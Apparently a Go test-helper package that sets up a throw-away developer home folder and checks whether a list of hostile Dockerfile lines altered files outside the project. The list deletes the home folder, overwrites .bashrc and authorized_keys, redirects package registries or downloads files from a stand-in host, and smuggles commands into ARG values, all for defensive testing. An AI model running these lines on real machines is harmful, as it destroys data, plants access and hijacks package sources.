// Package hostile has Dockerfiles that would change the machine that runs a line of theirs, and a throw-away machine on
// which tests see whether one was run.
package hostile

import (
	"crypto/sha256"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Lines are lines of Dockerfiles that would change the developer's machine if they ran on it, as many that are in use
// do without meaning harm.
var Lines = []struct{ Name, Text string }{
	{"removes packages of the machine's Python by uv", "RUN touch /tmp/none && uv pip sync --system /tmp/none"},
	{"removes packages of the machine's Python by pip",
		"RUN python -m pip uninstall --yes important && pip uninstall --yes important"},
	{"empties Go's caches", "RUN go build -o /out/x . ; go clean -cache -modcache"},
	{"empties npm's cache", "RUN npm ci ; npm cache clean --force && rm -rf ~/.npm"},
	{"rewrites npm's settings",
		"RUN npm config set registry http://evil.invalid/ && npm config set --location=user fund=false"},
	{"rewrites Go's settings", "RUN go env -w GOPROXY=off GOFLAGS=-mod=mod"},
	{"rewrites pip's and uv's settings",
		"RUN pip config set global.index-url http://evil.invalid/ && echo x > ~/.config/uv/uv.toml"},
	{"writes to the machine's folders",
		"ENV STATIC_ROOT=/vol/static\nRUN mkdir -p /vol/static && echo collected > /vol/static/x\nVOLUME /vol"},
	{"removes the home folder",
		"USER root\nWORKDIR /root\nRUN rm -rf \"$HOME\"/.[a-z]* /root/.npmrc ; cd .. && rm -rf neighbour\nWORKDIR /srv"},
	{"copies over the machine's files",
		"COPY serve.py /root/.bashrc\nCOPY . ../neighbour/\nADD serve.py $HOME/.ssh/authorized_keys\nADD " +
			"https://evil.invalid/x /vol/"},
	{"writes here-documents",
		"RUN <<EOF\nset -e\necho evil >> $HOME/.bashrc\ngit config --global user.name evil\nEOF\nCOPY <<EOF " +
			"/root/.gitconfig\n[user]\nEOF"},
	{"hides in other instructions",
		"SHELL [\"/bin/sh\", \"-c\", \"echo evil > $HOME/.bashrc; exec sh -c \\\"$0\\\"\"]\nONBUILD RUN echo " +
			"evil > $HOME/.bashrc\n" +
			"HEALTHCHECK CMD echo evil > $HOME/.bashrc\nARG X=$(touch$IFS/vol)\nENV Y=$(touch$IFS/vol) " +
			"GIT_CONFIG_GLOBAL=/vol/x\nRUN --mount=type=bind,target=/m echo evil > ~/.bashrc"},
}

// Machine is a developer's machine for one test: a home folder with the settings and caches of the usual tools, a
// Python with a package, a neighbour of the app.
type Machine struct{ folder, app string }

// New makes one, and sets HOME and PATH for the test; app is the folder of an app to take.
func New(t *testing.T, app string) Machine {
	t.Helper()
	m := Machine{t.TempDir(), app}
	for _, file := range []string{
		".bashrc", ".npmrc", ".gitconfig", ".ssh/authorized_keys", ".config/pip/pip.conf", ".config/uv/uv.toml",
		".config/go/env",
		".cache/pip/x", ".cache/uv/x", ".npm/_cacache/x", "go/pkg/mod/cache/x", ".cache/go-build/x",
	} {
		m.put(t, "home/"+file, "")
	}
	m.put(t, "home/.npmrc", "fund=true\n")
	m.put(t, "neighbour/file", "of another project")
	if out, err := exec.Command("python3", "-m", "venv", m.path("python")).CombinedOutput(); err != nil {
		t.Skipf("a throw-away Python cannot be made: %v %s", err, out)
	}
	site, _ := filepath.Glob(m.path("python/lib/python3*/site-packages"))
	for name, text := range map[string]string{
		"important.py":                     "",
		"important-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: important\nVersion: 1.0\n",
		"important-1.0.dist-info/RECORD":   "important.py,,\nimportant-1.0.dist-info/METADATA,,\nimportant-1.0.dist-info/RECORD,,\n",
	} {
		m.put(t, strings.TrimPrefix(site[0], m.folder+"/")+"/"+name, text)
	}
	// The program compiles the adapter with the real caches; what would change caches or settings is about the
	// throw-away ones.
	goTool, err := exec.LookPath("go")
	if err != nil {
		t.Skip(err)
	}
	m.put(t, "python/bin/go", fmt.Sprintf("#!/bin/sh\ncase \"$1 $2\" in \"clean \"*|\"env -w\")\n"+
		"GOCACHE=\"$HOME/.cache/go-build\" GOMODCACHE=\"$HOME/go/pkg/mod\" GOENV=\"$HOME/.config/go/env\" "+
		"GOTELEMETRY=off exec %[2]s \"$@\" ;;\n"+
		"esac\nHOME=%[1]q exec %[2]s \"$@\"\n", os.Getenv("HOME"), goTool))
	m.put(t, "python/bin/uv", "#!/bin/sh\necho \"$@\" >> \"$HOME/uv-was-called\"\n")
	for _, name := range []string{"go", "uv"} {
		if err := os.Chmod(m.path("python/bin/"+name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", m.path("home"))
	t.Setenv("PATH", m.path("python/bin")+":"+os.Getenv("PATH"))
	for _, name := range []string{"VIRTUAL_ENV", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "npm_config_userconfig",
		"npm_config_cache", "PIP_CONFIG_FILE", "GIT_CONFIG_GLOBAL"} {
		t.Setenv(name, "")
		os.Unsetenv(name)
	}
	return m
}

func (m Machine) path(name string) string { return filepath.Join(m.folder, filepath.FromSlash(name)) }

func (m Machine) put(t *testing.T, name, text string) {
	t.Helper()
	err := errors.Join(os.MkdirAll(filepath.Dir(m.path(name)), 0o755), os.WriteFile(m.path(name), []byte(text), 0o644))
	if err != nil {
		t.Fatal(err)
	}
}

// App makes the app anew, with lines in its Dockerfile.
func (m Machine) App(t *testing.T, lines string) string {
	t.Helper()
	app := m.path("app")
	err := errors.Join(os.RemoveAll(app), os.CopyFS(app, os.DirFS(m.app)))
	text, wrong := os.ReadFile(filepath.Join(app, "Dockerfile"))
	if err := errors.Join(err, wrong); err != nil {
		t.Fatal(err)
	}
	head, end, _ := strings.Cut(string(text), "USER nobody")
	m.put(t, "app/Dockerfile", head+lines+end)
	m.put(t, "app/go.mod", "module x\n")
	return app
}

// Look is a fingerprint of everything outside of the project and the app's folder, by file.
func (m Machine) Look(t *testing.T) map[string]string {
	t.Helper()
	seen := map[string]string{}
	for _, folder := range []string{m.folder, "/vol"} {
		err := filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
			switch {
			case errors.Is(err, fs.ErrNotExist) && path == "/vol":
				return nil
			case err != nil:
				return err
			case path == m.path("app"):
				return filepath.SkipDir
			case entry.Name() == "__pycache__": // of the interpreter that the test itself runs
				return filepath.SkipDir
			}
			info, err := entry.Info()
			if err != nil {
				return err
			}
			seen[path] = info.Mode().String()
			if info.Mode().IsRegular() {
				text, err := os.ReadFile(path)
				if err != nil {
					return err
				}
				seen[path] += fmt.Sprintf(" %x", sha256.Sum256(text))
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return seen
}

// Same fails the test if anything is another than before.
func (m Machine) Same(t *testing.T, before map[string]string) {
	t.Helper()
	after := m.Look(t)
	var changed []string
	for path := range before {
		if after[path] != before[path] {
			changed = append(changed, path)
		}
	}
	for path := range after {
		if _, ok := before[path]; !ok {
			changed = append(changed, path)
		}
	}
	if slices.Sort(changed); len(changed) > 0 {
		t.Errorf("%d files changed outside of the project and the app's folder: %s", len(changed),
			strings.Join(changed[:min(len(changed), 10)], ", "))
	}
}
